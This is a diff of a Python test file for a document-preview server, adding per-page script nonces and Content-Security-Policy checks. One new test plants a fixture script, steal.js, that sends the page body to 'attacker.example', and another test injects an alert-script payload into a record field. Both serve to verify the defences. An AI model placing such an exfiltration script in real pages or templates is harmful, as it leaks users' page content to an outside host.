@@ -53,7 +53,7 @@ def test_dossier_page_is_the_layout_html_at_the_fitted_scale(tmp_path: Path):
     preview = make_preview(small_catalog(tmp_path))
     view = preview.view(SEED_SLUG)
     assert view.pdf.startswith(b"%PDF") and len(pypdf.PdfReader(io.BytesIO(view.pdf)).pages) == 1
-    page = preview.dossier_page(SEED_SLUG, view)
+    page = preview.dossier_page(SEED_SLUG, view, "n0nce")
     assert f'style="--scale: {view.scale}"' in page
     assert page.index('<base href="/layout/">') < page.index('href="dossier.css"')
     assert f'data-generation="{preview.snapshot.generation}"' in page
@@ -62,18 +62,40 @@ def test_dossier_page_is_the_layout_html_at_the_fitted_scale(tmp_path: Path):
     assert preview.view(SEED_SLUG) is view  # nothing changed: not rendered again
 
 
+def test_only_the_previews_own_script_may_run_on_a_dossier_page(tmp_path: Path):
+    layout = tmp_path / "my-layout"
+    shutil.copytree(LAYOUTS_DIR / "memo", layout)
+    (layout / "steal.js").write_text(
+        "location = 'https://attacker.example/?' + document.body.innerHTML"
+    )
+    set_line(layout / "dossier.html.j2", "</head>", '<script src="steal.js"></script></head>')
+    preview = Preview(
+        small_catalog(tmp_path), lambda: Config(layout=str(layout)), say=lambda text: None
+    )
+    page = preview.dossier_page(SEED_SLUG, preview.view(SEED_SLUG), "n0nce")
+    scripts = re.findall(r"<script\b[^>]*>", page)
+    assert len(scripts) == 2 and '<script src="steal.js">' in scripts
+    assert [tag for tag in scripts if 'nonce="n0nce"' in tag] == [
+        tag for tag in scripts if "/_preview/live.js" in tag
+    ]
+    generation = preview.snapshot.generation
+    own = f'<script src="/_preview/live.js" nonce="n0nce" data-generation="{generation}" defer>'
+    for page in (preview.index_page("n0nce"), preview.problems_page("x", [], "n0nce")):
+        assert re.findall(r"<script\b[^>]*>", page) == [own]
+
+
 def test_record_text_never_becomes_markup_on_any_page(tmp_path: Path):
     records = small_catalog(tmp_path)
     seed = records / f"{SEED_SLUG}.yaml"
     set_line(seed, "question: ", "question: <script>alert(1)</script> ")
     preview = make_preview(records)
-    page = preview.dossier_page(SEED_SLUG, preview.view(SEED_SLUG))
+    page = preview.dossier_page(SEED_SLUG, preview.view(SEED_SLUG), "n0nce")
     assert "<script>alert" not in page and "&lt;script&gt;alert(1)" in page
     set_line(seed, "  match: 98", "  match: <b>98</b>")
     preview.refresh({seed})
-    problems = preview.problems_page(SEED_SLUG, preview.view(SEED_SLUG).problems)
+    problems = preview.problems_page(SEED_SLUG, preview.view(SEED_SLUG).problems, "n0nce")
     assert "<b>98" not in problems and "&lt;b&gt;98" in problems
-    assert "<b>98" not in preview.index_page()
+    assert "<b>98" not in preview.index_page("n0nce")
 
 
 def test_problems_show_with_file_line_and_field(tmp_path: Path):
@@ -84,9 +106,9 @@ def test_problems_show_with_file_line_and_field(tmp_path: Path):
     view = preview.view(SEED_SLUG)
     assert view.html is None
     line = seed.read_text().splitlines().index("  match: 198") + 1
-    page = preview.problems_page(SEED_SLUG, view.problems)
+    page = preview.problems_page(SEED_SLUG, view.problems, "n0nce")
     assert f"{seed}:{line}</code> related[0].match:" in page
-    assert 'class="invalid"' in preview.index_page()
+    assert 'class="invalid"' in preview.index_page("n0nce")
 
 
 def test_a_broken_layout_shows_on_every_page_until_fixed(tmp_path: Path):
@@ -102,7 +124,7 @@ def test_a_broken_layout_shows_on_every_page_until_fixed(tmp_path: Path):
     assert view.html is None
     expected = f"{settings}: page_text: must be a whole number ≥ 100"
     assert [str(problem) for problem in view.problems] == [expected]
-    assert "must be a whole number" in preview.index_page()
+    assert "must be a whole number" in preview.index_page("n0nce")
     assert preview.asset("/layout/dossier.css") is None
     settings.write_text("page_text = 4200\n")
     preview.refresh({settings})
@@ -335,3 +357,20 @@ def test_answers_only_to_its_own_name_and_well_formed_paths(tmp_path: Path):
     for (line, host, status, body), (got_status, got_body) in zip(cases, answers, strict=True):
         assert (got_status, got_body.startswith(body)) == (status, True), (line[:40], host)
     assert "Traceback" not in errors and "Error" not in errors, errors
+
+
+def test_every_page_gets_its_own_script_nonce(tmp_path: Path):
+    import urllib.request
+
+    process, url = start_preview(small_catalog(tmp_path))
+    try:
+        nonces = []
+        for _ in range(2):
+            with urllib.request.urlopen(url, timeout=20) as response:
+                policy = response.headers["Content-Security-Policy"]
+                nonce = re.search(r"script-src 'nonce-([A-Za-z0-9_-]{22})';", policy).group(1)
+                assert f'src="/_preview/live.js" nonce="{nonce}"' in response.read().decode()
+                nonces.append(nonce)
+    finally:
+        stop_preview(process)
+    assert nonces[0] != nonces[1]
